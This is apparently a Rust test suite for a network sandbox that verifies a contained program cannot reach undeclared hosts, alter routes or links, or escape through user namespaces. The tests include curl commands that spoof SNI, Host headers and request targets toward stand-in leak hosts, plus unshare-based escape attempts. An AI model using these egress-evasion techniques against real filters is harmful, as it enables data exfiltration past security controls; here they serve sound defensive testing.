//! What a contained command can reach beside what is declared: nothing. A sniffer outside sees no frame of it, and does
//! see those of the same program run outside.

#![expect(
    clippy::unwrap_used,
    reason = "the helpers of these tests stand outside their functions"
)]

use std::path::Path;
use std::process::Command;

use actpass_tests::home::{Home, SHOP, text, users};
use actpass_tests::outside::{Outside, in_a_network_of_our_own};
use actpass_tests::ways::{HOST_PROCESS, RESOLVER_SOCKETS, Shows, WAYS};

/// Runs the attacker and gives what it says.
fn attack(command: &mut Command) -> String {
    let host = std::process::id().to_string();
    let output = command.env(HOST_PROCESS, host).output().unwrap();
    let said = text(&output);
    assert!(
        output.status.success(),
        "the attacker did not end well: {said}"
    );
    assert_eq!(
        said.matches("\nclosed: ").count() + said.matches("\nopen: ").count() + 1,
        WAYS.len(),
        "{said}"
    );
    said
}

/// The shop's policy, with a name for whatever shop there is.
fn shops() -> String {
    SHOP.replace(
        "[api.shop.example]",
        "[api.shop.example, \"*.shops.example\"]",
    )
}

#[test]
fn every_way_out_is_closed_inside_and_open_outside() {
    in_a_network_of_our_own("every_way_out_is_closed_inside_and_open_outside", || {
        let outside = Outside::new();
        for user in users() {
            let home = Home::new(user, &shops()).unwrap();
            let attacker = home
                .install(Path::new(env!("CARGO_BIN_EXE_attacker")))
                .unwrap();
            let attacker = attacker.to_str().unwrap();

            let said = attack(&mut home.command(attacker));
            let seen = outside.seen();
            for way in WAYS.iter().filter(|way| user.is_root() || !way.privileged) {
                let works = match way.shows {
                    Shows::Frame(what) | Shows::Listener(what) => seen.iter().any(|it| it == what),
                    Shows::Success => true,
                };
                assert!(
                    works,
                    "{user:?}, outside: {} does not show in {seen:?}\n{said}",
                    way.name
                );
            }

            // What `actpass` itself does outside, such as looking up its user's name by nscd.
            assert!(home.run(&["true"]).status().unwrap().success());
            let ours = outside.seen();
            assert!(ours.iter().all(|it| it == RESOLVER_SOCKETS[1]), "{ours:?}");

            // Once as it is, and once where it can be root in a namespace of its own making.
            let own = [
                "unshare",
                "--user",
                "--map-root-user",
                "--net",
                "--mount",
                attacker,
            ];
            for program in [&[attacker][..], &own] {
                if program.len() > 1 && user.is_root() {
                    // Root without capabilities may not even make one: mapping 0 takes CAP_SETFCAP.
                    continue;
                }
                let said = attack(&mut home.run(program));
                let seen = outside.seen();
                assert_eq!(
                    seen, ours,
                    "{user:?}, inside: this left, or was reached\n{said}"
                );
                for way in WAYS.iter().filter(|way| way.shows == Shows::Success) {
                    let open = format!("open: {}", way.name);
                    assert!(
                        !said.contains(&open),
                        "{user:?}, inside: {}\n{said}",
                        way.name
                    );
                }
                let log = home.log().unwrap();
                assert!(
                    log.contains("exfiltrated.leak.example"),
                    "the name asked for is on the record"
                );
            }
        }
    });
}

#[test]
fn links_routes_and_addresses_cannot_be_made_inside() {
    in_a_network_of_our_own("links_routes_and_addresses_cannot_be_made_inside", || {
        let outside = Outside::new();
        let changes = [
            "link add x1 type veth peer name x2",
            "address add 198.51.100.1/24 dev lo",
            "route add 203.0.113.0/24 dev lo",
            "-6 route add 2001:db8:ff::/64 dev lo",
            "rule add from all lookup main",
            "link set lo mtu 1280",
        ];
        for user in users() {
            let home = Home::new(user, &shops()).unwrap();
            for change in changes {
                let inside = home
                    .run(&["sh", "-c", &format!("ip {change}")])
                    .output()
                    .unwrap();
                assert!(!inside.status.success(), "{user:?}, inside: ip {change}");
                let said = text(&inside);
                let refused = ["Operation not permitted", "Permission denied"];
                assert!(refused.iter().any(|it| said.contains(it)), "{said}");
            }
            // Only its own can be changed, and that leads nowhere.
            let escape = format!(
                "ip route add default dev lo; ip link add y0 type veth peer name y1 netns {}",
                std::process::id()
            );
            home.run(&[
                "unshare",
                "--user",
                "--map-root-user",
                "--net",
                "sh",
                "-c",
                &escape,
            ])
            .output()
            .unwrap();
        }
        let links = Command::new("ip").arg("link").output().unwrap();
        assert!(
            !text(&links).contains("y1"),
            "a link reached the host's network"
        );
        drop(outside);
        for change in changes {
            let status = Command::new("ip").args(change.split(' ')).status().unwrap();
            assert!(status.success(), "outside: ip {change}");
        }
    });
}

#[test]
fn undeclared_names_on_declared_ports_are_refused_and_recorded() {
    for user in users() {
        let home = Home::new(user, &shops()).unwrap();
        let script = r#"
            at=$(getent hosts api.shop.example | cut -d' ' -f1)
            curl -sk -m 5 --resolve sni.leak.example:443:$at https://sni.leak.example/v1/x
            curl -s -m 5 --http1.1 -H 'Host: host.leak.example' https://api.shop.example/v1/x
            curl -s -m 5 --http2 -H 'Host: http2.leak.example' https://api.shop.example/v1/x
            curl -sk -m 5 https://$at/v1/x
            curl -s -m 5 --http1.1 --request-target http://absolute.leak.example/v1/x https://api.shop.example/v1/x
            curl -sk -m 5 --resolve deep.er.shops.example:443:$at https://deep.er.shops.example/v1/x
            getent hosts name.leak.example; getent hosts deep.er.shops.example
            true"#;
        let output = home.script(script).unwrap();
        let said = text(&output);
        assert_eq!(
            said.matches("\"code\":\"host_mismatch\",\"detail\"")
                .count(),
            3,
            "{user:?}: {said}"
        );
        let log = home.log().unwrap();
        for (what, times) in [
            (
                "TLS to api.shop.example:443 with server name sni.leak.example",
                1,
            ),
            ("TLS to api.shop.example:443 with no server name", 1),
            (
                "TLS to api.shop.example:443 with server name deep.er.shops.example",
                1,
            ),
            ("GET api.shop.example:443 as host.leak.example", 1),
            ("GET api.shop.example:443 as http2.leak.example", 1),
            (
                "GET api.shop.example:443 as api.shop.example and absolute.leak.example",
                1,
            ),
        ] {
            let target = format!("\"target\":\"{what}\"");
            assert_eq!(
                log.matches(&target).count(),
                times,
                "{user:?}: {what}\n{said}"
            );
        }
        // Of one address family or both, as the C library likes.
        for name in ["A name.leak.example.\"", "A deep.er.shops.example.\""] {
            assert!(log.contains(name), "{user:?}: {name}");
        }
    }
}
